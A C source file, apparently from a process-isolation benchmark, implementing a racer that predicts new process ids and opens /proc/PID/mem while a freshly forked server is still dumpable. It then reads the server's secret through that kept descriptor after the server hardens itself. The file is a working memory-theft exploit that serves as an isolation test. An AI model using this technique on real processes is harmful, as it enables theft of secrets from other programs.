/* The fork-window racer (osprobe.h).
 *
 * The kernel checks access to /proc/PID/mem when the file is opened, not
 * when it is read: a same-uid process without capabilities that opens a
 * compartment's server while the server is still dumpable keeps a working
 * descriptor after the server made itself non-dumpable, and reads its
 * trusted heap through it later.  A server is dumpable from its fork until
 * its own PR_SET_DUMPABLE 0, unless the process that forked it was
 * non-dumpable already (the flag is inherited).  The racer is such a
 * process: it spins over the process ids the next forks will take, opens
 * /proc/PID/mem of each new process whose parent is the caller, keeps the
 * descriptor, and reads the secret through it once the caller has created
 * the compartment and planted the secret.
 *
 * It is a forked child of the caller that shares one page with it; the
 * caller arms it before the creation and collects after the planting. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "isobench/error.h"
#include "isobench/futex.h"
#include "isobench/osprobe.h"

/* Process ids tried ahead of the last one seen taken. */
#define RACER_AHEAD 16
/* How long the caller waits for the racer to answer a command; a bound
 * for a hang, never reached by a racer that runs. */
#define RACER_ANSWER_MS 20000
/* The most a needle search reads of one process. */
#define RACER_SCAN_MAX (1ull << 30)

enum { CMD_NONE, CMD_ARM, CMD_COLLECT, CMD_QUIT };

struct racer_page {
    uint32_t cmd;        /* written by the caller */
    uint32_t seq;        /* the caller's command number */
    uint32_t armed;      /* the racer's answers: the arming it spins for, */
    uint32_t done;       /* the collect it finished */
    pid_t caller;        /* whose new children the racer opens */
    pid_t parent;        /* the racer's parent */
    pid_t server;        /* CMD_COLLECT: the server (0: every child opened), */
    uint64_t addr;       /* the address and the value expected there, */
    uint64_t expect;
    uint32_t needle_len; /* or (addr 0) bytes to find in its private memory */
    unsigned char needle[ISOB_RACER_NEEDLE_MAX];
    struct isob_racer_try out;
};

/* The process id the kernel handed out last, or -errno. */
static long last_pid(void)
{
    char buf[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    int err = errno;
    close(fd);
    if (n <= 0)
        return n < 0 ? -err : -EIO;
    buf[n] = 0;
    return strtol(buf, NULL, 10);
}

/* The parent of pid from /proc/PID/stat (readable whatever its
 * dumpability); 0 when it is gone. */
static pid_t parent_of(pid_t pid)
{
    char path[48], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    /* "pid (comm) state ppid ...": comm may hold anything but ends at the
     * last ')'. */
    char *p = strrchr(buf, ')');
    int ppid = 0;
    char state;
    if (!p || sscanf(p + 1, " %c %d", &state, &ppid) != 2)
        return 0;
    return (pid_t)ppid;
}

/* Whether needle is in a private writable mapping of the process whose
 * mem and maps descriptors these are (opened earlier: read now). */
static int search(int mem, int maps, const unsigned char *needle, size_t nlen, struct isob_racer_try *o)
{
    static char text[1 << 16];
    static unsigned char buf[(1 << 16) + ISOB_RACER_NEEDLE_MAX];
    if (maps < 0 || nlen == 0)
        return 0;
    size_t used = 0;
    ssize_t n;
    while (used < sizeof text - 1 && (n = pread(maps, text + used, sizeof text - 1 - used, (off_t)used)) > 0)
        used += (size_t)n;
    text[used] = 0;
    uint64_t budget = RACER_SCAN_MAX;
    for (char *line = text; line && *line; line = strchr(line, '\n'), line = line ? line + 1 : NULL) {
        unsigned long lo, hi;
        char perms[5];
        if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w' ||
            perms[3] != 'p')
            continue;
        size_t keep = 0;
        for (unsigned long at = lo; at < hi && budget; ) {
            size_t want = hi - at < (1u << 16) ? (size_t)(hi - at) : (1u << 16);
            ssize_t got = pread(mem, buf + keep, want, (off_t)at);
            if (got <= 0)
                break;
            o->read = 1;
            budget = budget > (uint64_t)got ? budget - (uint64_t)got : 0;
            size_t have = keep + (size_t)got;
            if (memmem(buf, have, needle, nlen))
                return 1;
            keep = have < nlen - 1 ? have : nlen - 1;
            memmove(buf, buf + have - keep, keep);
            at += (unsigned long)got;
        }
    }
    return 0;
}

/* One arming, command seq: spin until the caller collects; then read
 * through what was opened. */
static void race(struct racer_page *pg, uint32_t seq)
{
    struct isob_racer_try *o = &pg->out;
    memset(o, 0, sizeof *o);
    long base = last_pid();
    if (base < 0) {
        o->err = (int)-base;
        snprintf(o->note, sizeof o->note, "/proc/sys/kernel/ns_last_pid: %s", isob_strerror((int)base));
    }
    int fds[RACER_AHEAD], maps[RACER_AHEAD];
    pid_t fd_pid[RACER_AHEAD];
    int nfd = 0;
    pid_t refused[RACER_AHEAD];
    int refused_err[RACER_AHEAD];
    int nref = 0;
    pid_t next = (pid_t)(base > 0 ? base + 1 : 1);
    /* Armed: the caller may create now. */
    isob_store(&pg->armed, seq);
    while (base > 0 && isob_load(&pg->cmd) == CMD_ARM && isob_load(&pg->seq) == seq) {
        int gone_ahead = 0;
        for (int i = 0; i < RACER_AHEAD; i++) {
            pid_t c = next + i;
            char path[48];
            snprintf(path, sizeof path, "/proc/%d/mem", (int)c);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            int err = fd < 0 ? errno : 0;
            if (fd < 0 && err == ENOENT)
                continue;
            /* c exists: ours to keep only if the caller forked it. */
            if (i == gone_ahead)
                gone_ahead++;
            if (parent_of(c) != pg->caller) {
                if (fd >= 0)
                    close(fd);
                continue;
            }
            int known = 0;
            for (int k = 0; k < nfd; k++)
                known |= fd_pid[k] == c;
            for (int k = 0; k < nref; k++)
                known |= refused[k] == c;
            if (known) {
                if (fd >= 0)
                    close(fd);
                continue;
            }
            if (fd >= 0 && nfd < RACER_AHEAD) {
                /* Its map too, while the open is allowed: the same check. */
                snprintf(path, sizeof path, "/proc/%d/maps", (int)c);
                maps[nfd] = open(path, O_RDONLY | O_CLOEXEC);
                fds[nfd] = fd;
                fd_pid[nfd++] = c;
            } else if (fd < 0 && nref < RACER_AHEAD) {
                refused[nref] = c;
                refused_err[nref++] = err;
            } else if (fd >= 0) {
                close(fd);
            }
        }
        /* Process ids that are taken stay taken for this try. */
        next += gone_ahead;
    }
    /* Without a prediction it could not spin: wait for the collect. */
    while (isob_load(&pg->cmd) == CMD_ARM && isob_load(&pg->seq) == seq)
        isob_futex_wait(&pg->seq, seq, 0);
    if (isob_load(&pg->cmd) == CMD_COLLECT) {
        pid_t server = pg->server;
        for (int k = 0; k < nref; k++)
            if (refused[k] == server) {
                o->seen = 1;
                o->err = refused_err[k];
            }
        for (int k = 0; k < nfd; k++) {
            if (server && fd_pid[k] != server)
                continue;
            o->seen = 1;
            o->opened = 1;
            if (!pg->addr) {
                if (search(fds[k], maps[k], pg->needle, pg->needle_len, o) && !o->secret_seen) {
                    o->secret_seen = 1;
                    o->found_pid = fd_pid[k];
                }
                continue;
            }
            uint64_t v = 0;
            ssize_t n = pread(fds[k], &v, sizeof v, (off_t)pg->addr);
            if (n == (ssize_t)sizeof v) {
                o->read = 1;
                o->secret_seen = v == pg->expect;
            } else {
                o->err = n < 0 ? errno : EIO;
            }
        }
        if (!server)
            for (int k = 0; k < nref; k++) {
                o->seen = 1;
                o->err = refused_err[k];
            }
    }
    for (int k = 0; k < nfd; k++) {
        close(fds[k]);
        if (maps[k] >= 0)
            close(maps[k]);
    }
    isob_store(&pg->done, isob_load(&pg->seq));
}

static void __attribute__((noreturn)) racer_main(struct racer_page *pg)
{
    for (;;) {
        uint32_t seq = isob_load(&pg->seq);
        uint32_t cmd = isob_load(&pg->cmd);
        if (cmd == CMD_QUIT)
            _exit(0);
        if (cmd == CMD_ARM && isob_load(&pg->armed) != seq) {
            race(pg, seq);
            continue;
        }
        isob_futex_wait(&pg->seq, seq, 0);
    }
}

int isob_racer_start(struct isob_racer *r, char *why, size_t len)
{
    return isob_racer_start_for(r, getpid(), why, len);
}

int isob_racer_start_for(struct isob_racer *r, pid_t caller, char *why, size_t len)
{
    *r = (struct isob_racer){0};
    long base = last_pid();
    if (base < 0) {
        snprintf(why, len, "the racer predicts process ids from /proc/sys/kernel/ns_last_pid: %s",
                 isob_strerror((int)base));
        return (int)base;
    }
    struct racer_page *pg = mmap(NULL, sizeof *pg, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (pg == MAP_FAILED) {
        int err = -errno;
        snprintf(why, len, "mmap: %s", isob_strerror(err));
        return err;
    }
    memset(pg, 0, sizeof *pg);
    pg->caller = caller;
    pg->parent = getpid();
    fflush(NULL);
    pid_t pid = fork();
    if (pid < 0) {
        int err = -errno;
        munmap(pg, sizeof *pg);
        snprintf(why, len, "fork: %s", isob_strerror(err));
        return err;
    }
    if (pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        if (getppid() != pg->parent)
            _exit(1);
        racer_main(pg);
    }
    r->pid = pid;
    r->page = pg;
    return 0;
}

/* Wait until *w says seq; 0 or -ETIMEDOUT.  Polled: this is set-up, and
 * the bound only turns a racer that hangs into an error. */
static int wait_for(uint32_t *w, uint32_t seq)
{
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    while (isob_load(w) != seq) {
        struct timespec ms = {0, 200000};
        nanosleep(&ms, NULL);
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 > RACER_ANSWER_MS)
            return -ETIMEDOUT;
    }
    return 0;
}

static void command(struct racer_page *pg, uint32_t cmd)
{
    isob_store(&pg->cmd, cmd);
    isob_store(&pg->seq, pg->seq + 1);
    isob_futex_wake(&pg->seq, 1, 0);
}

int isob_racer_arm(struct isob_racer *r)
{
    struct racer_page *pg = r->page;
    command(pg, CMD_ARM);
    return wait_for(&pg->armed, pg->seq);
}

int isob_racer_collect(struct isob_racer *r, pid_t server, uintptr_t addr, uint64_t expect,
                       struct isob_racer_try *out)
{
    struct racer_page *pg = r->page;
    pg->server = server;
    pg->addr = addr;
    pg->expect = expect;
    pg->needle_len = 0;
    command(pg, CMD_COLLECT);
    int rc = wait_for(&pg->done, pg->seq);
    if (rc == 0)
        *out = pg->out;
    return rc;
}

int isob_racer_collect_needle(struct isob_racer *r, const void *needle, size_t len, struct isob_racer_try *out)
{
    struct racer_page *pg = r->page;
    if (len == 0 || len > ISOB_RACER_NEEDLE_MAX)
        return -EINVAL;
    pg->server = 0;
    pg->addr = 0;
    memcpy(pg->needle, needle, len);
    pg->needle_len = (uint32_t)len;
    command(pg, CMD_COLLECT);
    int rc = wait_for(&pg->done, pg->seq);
    if (rc == 0)
        *out = pg->out;
    return rc;
}

void isob_racer_stop(struct isob_racer *r)
{
    if (r->pid > 0) {
        command(r->page, CMD_QUIT);
        kill(r->pid, SIGKILL);
        while (waitpid(r->pid, NULL, 0) < 0 && errno == EINTR)
            ;
    }
    if (r->page)
        munmap(r->page, sizeof(struct racer_page));
    *r = (struct isob_racer){0};
}
